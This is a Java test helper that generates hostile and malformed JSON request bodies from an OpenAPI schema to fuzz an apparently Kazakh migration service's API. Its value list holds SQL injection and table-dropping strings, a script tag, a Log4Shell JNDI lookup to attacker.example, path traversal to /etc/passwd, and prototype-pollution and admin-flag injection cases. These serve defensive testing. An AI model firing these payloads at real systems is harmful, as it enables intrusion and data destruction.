package kz.migration.common.testing;

import java.math.BigInteger;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;

/**
 * Request bodies for the hostile-input suite, generated from an OpenAPI schema: a plausible body first (examples
 * where the schema has them), then every leaf replaced by each hostile value, then whole-body damage. Bodies are
 * written by hand so that they may hold what no JSON library writes: lone surrogates, 1e400, NaN, duplicate keys.
 */
public final class HostileBodies {

    /** A JSON fragment written verbatim. */
    public record Raw(String json) {
    }

    /** One generated body with a description of the damage, for failure messages. */
    public record Case(String description, String body, String contentType) {
    }

    private static final String HUGE = "A".repeat(20_000);

    /** Values that replace one field; some are valid JSON of the wrong type, some are barely JSON at all. */
    static final List<Object> HOSTILE_VALUES = List.of(
            new Raw("null"), "", " ", HUGE, "\u0000", "\u202Egnp.exe", "😀".repeat(64), new Raw("\"\\ud800\""),
            "\u0007\u001b[31mred\u001b[0m", "line\nbreak\r\ttab", "' OR '1'='1", "1; DROP TABLE audit_record; --",
            "<script>alert(1)</script>", "${jndi:ldap://attacker.example/a}", "../../../../etc/passwd", "%00%0d%0a",
            -1, 0, 2_147_483_648L, new BigInteger("9223372036854775808"), new Raw("-9223372036854775809"),
            new Raw("1e400"), new Raw("-1e400"), new Raw("1e-400"), 0.5, "NaN", "Infinity", new Raw("NaN"),
            new Raw("-0.0"), true, List.of(), List.of(1, 2), Map.of(), Map.of("nested", Map.of("deeper", List.of())),
            "123456789012", "000000000000", "abc", "0000-01-01", "9999-12-31", "2026-02-30", "+1000000000-01-01",
            "2026-13-01T25:61:00Z", "XX-2026-000001", "not-a-uuid", "00000000-0000-0000-0000-000000000000");

    private final OpenApiOperations document;

    public HostileBodies(OpenApiOperations document) {
        this.document = document;
    }

    /** A body that satisfies the schema's shape (not necessarily its rules): examples, enums, formats, bounds. */
    @SuppressWarnings("unchecked")
    public Object sample(String name, Map<String, Object> schema, int depth) {
        Map<String, Object> s = document.resolve(schema);
        if (s.containsKey("example")) {
            return s.get("example");
        }
        if (s.get("enum") instanceof List<?> values && !values.isEmpty()) {
            return values.get(0);
        }
        String type = String.valueOf(s.getOrDefault("type", s.containsKey("properties") ? "object" : "string"));
        switch (type) {
            case "object" -> {
                Map<String, Object> body = new LinkedHashMap<>();
                if (depth < 6) {
                    Map<String, Map<String, Object>> properties = (Map<String, Map<String, Object>>) s
                            .getOrDefault("properties", Map.of());
                    properties.forEach((property, propertySchema) -> body.put(property,
                            sample(property, propertySchema, depth + 1)));
                }
                return body;
            }
            case "array" -> {
                return depth < 6
                        ? List.of(sample(name, (Map<String, Object>) s.getOrDefault("items", Map.of()), depth + 1))
                        : List.of();
            }
            case "integer", "number" -> {
                Object minimum = s.get("minimum");
                return minimum instanceof Number n ? n : 1;
            }
            case "boolean" -> {
                return true;
            }
            default -> {
                return sampleString(name == null ? "" : name.toLowerCase(), String.valueOf(s.get("format")));
            }
        }
    }

    private static Object sampleString(String name, String format) {
        if (format.equals("date")) {
            return LocalDate.now().plusDays(30).toString();
        }
        if (format.equals("date-time")) {
            return "2026-03-02T10:00:00Z";
        }
        if (format.equals("uuid") || name.endsWith("id")) {
            return UUID.randomUUID().toString();
        }
        if (name.contains("bin") || name.contains("iin")) {
            return "291417776310";
        }
        if (name.contains("region")) {
            return "750000000";
        }
        if (name.contains("occupation")) {
            return "2512";
        }
        if (name.contains("currency")) {
            return "KZT";
        }
        if (name.contains("citizenship") || name.contains("country")) {
            return "UZ";
        }
        if (name.contains("amount") || name.contains("salary")) {
            return "450000.00";
        }
        return "Sample " + name;
    }

    /** Every hostile case for a body of {@code schema}: field by field, then the body as a whole. */
    @SuppressWarnings("unchecked")
    public List<Case> cases(Map<String, Object> schema) {
        Object base = sample("body", schema, 0);
        List<Case> cases = new ArrayList<>();
        List<List<Object>> leaves = new ArrayList<>();
        collectPaths(base, new ArrayList<>(), leaves);
        for (List<Object> path : leaves) {
            for (Object value : HOSTILE_VALUES) {
                cases.add(json(path + " = " + describe(value), replace(base, path, 0, value)));
            }
            if (path.size() > 0 && path.get(path.size() - 1) instanceof String) {
                cases.add(json(path + " missing", remove(base, path, 0)));
            }
        }
        cases.add(json("one field over 256 KB", replace(base, leaves.isEmpty() ? List.of() : leaves.get(0), 0,
                "B".repeat(300_000))));
        String text = write(base);
        cases.add(json("empty body", ""));
        cases.add(json("null body", "null"));
        cases.add(json("array instead of object", "[" + text + "]"));
        cases.add(json("string instead of object", "\"" + text.replace("\"", "'") + "\""));
        cases.add(json("number instead of object", "42"));
        for (int cut : new int[]{1, 2, text.length() / 3, text.length() / 2, text.length() - 1}) {
            if (cut > 0 && cut < text.length()) {
                cases.add(json("truncated at " + cut, text.substring(0, cut)));
            }
        }
        cases.add(json("nested 5000 deep", "{\"a\":" + "[".repeat(5000) + "]".repeat(5000) + "}"));
        cases.add(json("objects nested 1500 deep", "{\"a\":".repeat(1500) + "1" + "}".repeat(1500)));
        cases.add(json("unknown field", text.replaceFirst("\\{", "{\"isAdmin\":true,")));
        cases.add(json("prototype pollution", text.replaceFirst("\\{", "{\"__proto__\":{\"admin\":true},")));
        if (base instanceof Map<?, ?> map && !map.isEmpty()) {
            String first = (String) map.keySet().iterator().next();
            cases.add(json("duplicate key of another type",
                    text.replaceFirst("\\{", "{\"" + first + "\":[1,{\"x\":null}],")));
        }
        cases.add(json("byte order mark", "\uFEFF" + text));
        cases.add(json("trailing garbage", text + "}{"));
        cases.add(json("comment", "/* hi */" + text));
        cases.add(json("single quotes", text.replace('"', '\'')));
        cases.add(new Case("text/plain", text, "text/plain"));
        cases.add(new Case("application/xml", "<vacancy><title>x</title></vacancy>", "application/xml"));
        cases.add(new Case("form", "title=x&region=750000000", "application/x-www-form-urlencoded"));
        cases.add(new Case("json with charset latin1", text, "application/json; charset=ISO-8859-1"));
        return cases;
    }

    private static Case json(String description, Object body) {
        return new Case(description, body instanceof String s ? s : write(body), "application/json");
    }

    private static String describe(Object value) {
        String text = value instanceof Raw raw ? raw.json() : String.valueOf(value);
        return text.length() > 40 ? text.substring(0, 40) + "...(" + text.length() + ")" : text;
    }

    @SuppressWarnings("unchecked")
    private static void collectPaths(Object node, List<Object> path, List<List<Object>> out) {
        out.add(List.copyOf(path));
        if (path.size() > 4) {
            return;
        }
        if (node instanceof Map<?, ?> map) {
            for (Object key : map.keySet()) {
                List<Object> child = new ArrayList<>(path);
                child.add(key);
                collectPaths(map.get(key), child, out);
            }
        } else if (node instanceof List<?> list && !list.isEmpty()) {
            List<Object> child = new ArrayList<>(path);
            child.add(0);
            collectPaths(list.get(0), child, out);
        }
    }

    private static Object replace(Object node, List<Object> path, int index, Object value) {
        if (index == path.size()) {
            return value;
        }
        Object step = path.get(index);
        if (node instanceof Map<?, ?> map) {
            Map<Object, Object> copy = new LinkedHashMap<>(map);
            copy.put(step, replace(map.get(step), path, index + 1, value));
            return copy;
        }
        if (node instanceof List<?> list) {
            List<Object> copy = new ArrayList<>(list);
            copy.set((Integer) step, replace(list.get((Integer) step), path, index + 1, value));
            return copy;
        }
        return node;
    }

    private static Object remove(Object node, List<Object> path, int index) {
        Object step = path.get(index);
        if (node instanceof Map<?, ?> map) {
            Map<Object, Object> copy = new LinkedHashMap<>(map);
            if (index == path.size() - 1) {
                copy.remove(step);
            } else {
                copy.put(step, remove(map.get(step), path, index + 1));
            }
            return copy;
        }
        if (node instanceof List<?> list && index < path.size() - 1) {
            List<Object> copy = new ArrayList<>(list);
            copy.set((Integer) step, remove(list.get((Integer) step), path, index + 1));
            return copy;
        }
        return node;
    }

    /** JSON text of maps, lists, strings, numbers, booleans, null and {@link Raw} fragments. */
    public static String write(Object value) {
        StringBuilder out = new StringBuilder();
        write(value, out);
        return out.toString();
    }

    private static void write(Object value, StringBuilder out) {
        if (value == null) {
            out.append("null");
        } else if (value instanceof Raw raw) {
            out.append(raw.json());
        } else if (value instanceof String s) {
            out.append('"');
            for (char c : s.toCharArray()) {
                switch (c) {
                    case '"' -> out.append("\\\"");
                    case '\\' -> out.append("\\\\");
                    default -> {
                        if (c < 0x20) {
                            out.append(String.format("\\u%04x", (int) c));
                        } else {
                            out.append(c);
                        }
                    }
                }
            }
            out.append('"');
        } else if (value instanceof Number || value instanceof Boolean) {
            out.append(value);
        } else if (value instanceof Map<?, ?> map) {
            out.append('{');
            boolean first = true;
            for (var entry : map.entrySet()) {
                out.append(first ? "" : ",");
                first = false;
                write(String.valueOf(entry.getKey()), out);
                out.append(':');
                write(entry.getValue(), out);
            }
            out.append('}');
        } else if (value instanceof List<?> list) {
            out.append('[');
            for (int i = 0; i < list.size(); i++) {
                out.append(i > 0 ? "," : "");
                write(list.get(i), out);
            }
            out.append(']');
        } else {
            write(String.valueOf(value), out);
        }
    }
}
